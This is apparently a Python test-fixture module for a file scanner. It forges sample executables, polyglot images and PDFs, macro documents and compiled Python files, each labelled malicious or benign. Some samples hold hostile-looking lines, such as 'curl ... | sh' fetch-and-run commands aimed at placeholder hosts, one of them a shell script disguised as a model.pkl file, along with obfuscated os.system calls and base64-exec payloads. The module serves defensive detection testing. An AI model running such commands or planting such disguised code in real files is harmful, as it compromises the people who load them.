"""Programs, compiled Python, and pictures with something behind them."""

from __future__ import annotations

import importlib.util
import marshal  # dumps only
import struct
import zlib
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import constant
from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.tensors import _ELF as ELF
from stannary.testing.forges.tensors import _PICKLE as PICKLE


def _register(family: str, filename: str, forged: dict[str, tuple[bytes, bool | None]]) -> None:
    for name, (content, malicious) in forged.items():
        forge(name, filename=filename, family=family, malicious=malicious)(constant(content))


_PE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\0\0"
    + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 112, 0x2022)
    + struct.pack("<H", 0x20B)
    + bytes(200)
)
_MACHO = (
    b"\xcf\xfa\xed\xfe"
    + struct.pack("<iiIIIII", 0x100000C, 0, 6, 1, 32, 0, 0)
    + struct.pack("<IIIIII", 0xC, 32, 24, 0, 0, 0)
    + b"/x.dylib"
)
_JAVA = b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 61) + bytes(32)
_WASM = b"\x00asm\x01\x00\x00\x00" + b"\x02\x07\x01\x03env\x01f\x00\x00"
_register(
    "Programs",
    "libcustom.bin",
    {
        "executable.elf": (ELF, True),
        "executable.pe": (_PE, True),
        "executable.macho": (_MACHO, True),
        "executable.java": (_JAVA, True),
        "executable.wasm": (_WASM, None),
        "executable.in_zip": (small_zip({"model/config.json": b"{}", "model/ops.so": ELF}), True),
        "executable.pe_in_zip": (small_zip({"weights.bin": _PE}), True),
        "executable.llamafile": (
            b"MZqFpD='\n"
            + bytes(64)
            + small_zip({"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 0), ".args": b"-m\nmodel.gguf\n"}),
            True,
        ),
        "executable.elf_broken": (b"\x7fELF\x02\x01\x01" + bytes(4), True),
        "executable.not_dos": (b"MZ\x90 is not a program, only two letters" + bytes(4), False),
    },
)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


_PNG = (
    b"\x89PNG\r\n\x1a\n"
    + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + _chunk(b"IDAT", zlib.compress(b"\0\0"))
    + _chunk(b"IEND", b"")
)
_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xda\x00\x08\x01\x01\0\0?\0\x12\xff\x00\x34\xff\xd9"
_GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction[3 0 R /Fit]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
_ZIP = small_zip({"x.pkl": PICKLE})
_register(
    "Polyglots",
    "logo.png",
    {
        "media.png": (_PNG, False),
        "media.jpeg": (_JPEG, False),
        "media.gif": (_GIF, False),
        "media.pdf": (_PDF, False),
        "media.png_padded": (_PNG + bytes(512), False),
        "media.png_zip": (_PNG + _ZIP, True),
        "media.png_pickle": (_PNG + PICKLE, True),
        "media.jpeg_zip": (_JPEG + _ZIP, True),
        "media.gif_elf": (_GIF + ELF, True),
        "media.pdf_zip": (_PDF + _ZIP, True),
        "media.pdf_launch": (_PDF.replace(b"[3 0 R /Fit]", b"<</S /Launch /F (x)>>"), True),
        "media.pdf_script": (_PDF.replace(b"[3 0 R /Fit]", b"<</S /JavaScript /JS (x)>>"), None),
        "media.macros": (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + bytes(504)
            + "Root Entry".encode("utf-16-le")
            + bytes(108)
            + "VBA".encode("utf-16-le")
            + bytes(400),
            True,
        ),
        "media.rar": (b"Rar!\x1a\x07\x01\x00" + bytes(64), None),
    },
)


def _object(value: Any) -> bytes:  # noqa: ANN401
    if value is None:
        return b"N"
    if isinstance(value, bytes):
        return b"s" + struct.pack("<i", len(value)) + value
    if isinstance(value, str):
        return b"u" + struct.pack("<i", len(value.encode())) + value.encode()
    if isinstance(value, tuple):
        return b"(" + struct.pack("<i", len(value)) + b"".join(map(_object, value))
    return bytes(value["raw"])


def code(names: tuple[str, ...], consts: tuple[Any, ...] = (None,), name: str = "<module>") -> dict[str, bytes]:
    """Return a marshalled code object of 3.11 and later, with nothing but names and constants."""
    head = b"c" + struct.pack("<5i", 0, 0, 0, 2, 0)
    body = (
        _object(b"\x97\x00d\x00S\x00")
        + _object(consts)
        + _object(names)
        + _object(())
        + _object(b"")
        + _object("m.py")
        + _object(name)
        + _object(name)
    )
    return {"raw": head + body + struct.pack("<i", 1) + _object(b"") + _object(b"")}


def pyc(top: dict[str, bytes], *, magic: int = 3495, tail: bytes = b"") -> bytes:
    """Return a `.pyc` with a 16-byte header."""
    return struct.pack("<H", magic) + b"\r\n" + bytes(12) + top["raw"] + tail


def compiled(source: str) -> bytes:
    """Return what this Python compiles a source to, as it stands in `__pycache__`."""
    content = marshal.dumps(compile(source, "m.py", "exec", dont_inherit=True))
    return importlib.util.MAGIC_NUMBER + bytes(12) + content


_FUNCTION = code(("os", "system"), ("echo stannary",), "load")
_register(
    "Compiled Python",
    "helper.pyc",
    {
        "pyc.plain": (pyc(code(("math", "sqrt", "Net"), (None, "a text"))), False),
        "pyc.system": (pyc(code(("os", "system"), ("echo stannary", None))), True),
        "pyc.subprocess": (pyc(code(("subprocess", "run"), ("echo stannary", None))), True),
        "pyc.function": (pyc(code(("load",), (_FUNCTION, None))), True),
        "pyc.function_exec": (pyc(code(("load",), (code(("exec",), ("x",), "load"), None))), None),
        "pyc.function_decode": (pyc(code(("load",), (code(("exec", "base64", "b64decode"), ("x",), "load"), None))), True),
        "pyc.import_by_name": (pyc(code(("__import__", "getattr"), ("o", "s", None))), True),
        "pyc.connect": (pyc(code(("socket", "connect"), ("127.0.0.1", None))), True),
        "pyc.exec": (pyc(code(("base64", "b64decode", "exec"), ("cHJpbnQoMSk=", None))), True),
        "pyc.compiled_plain": (compiled("import os\ndef f(x):\n    x.system = os.getcwd()\n    return x.run(os.path)\n"), False),
        "pyc.compiled_hidden": (compiled("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo stannary')\n"), True),
        "pyc.compiled_member": (compiled("import random\ndef f():\n    return random._os.system('echo stannary')\n"), True),
        "pyc.compiled_thread": (
            compiled("import os, threading\nthreading.Thread(target=os.system, args=('echo stannary',)).start()\n"),
            True,
        ),
        "pyc.compiled_decoded": (compiled("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), True),
        "pyc.shell_text": (pyc(code(("x",), ("curl https://example.invalid/x | sh", None))), True),
        "pyc.trailing": (pyc(code(("math",)), tail=PICKLE), True),
        "pyc.future_magic": (pyc(code(("os", "system")), magic=3627), True),
        "pyc.truncated": (pyc(code(("math",)))[:50], None),
        "pyc.deep": (
            struct.pack("<H", 3495) + b"\r\n" + bytes(12) + b"c" + struct.pack("<5i", 0, 0, 0, 0, 0) + b"(\x01\0\0\0" * 5000,
            None,
        ),
    },
)
_register("Programs", "weights.bin", {"program.script_as_weights": (b"#!/bin/sh\necho stannary\n", True)})
_register("Programs", "start", {"program.script": (b"#!/bin/sh\necho stannary\n", False)})
_register("Programs", "model.pkl", {"program.script_fetches": (b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", True)})
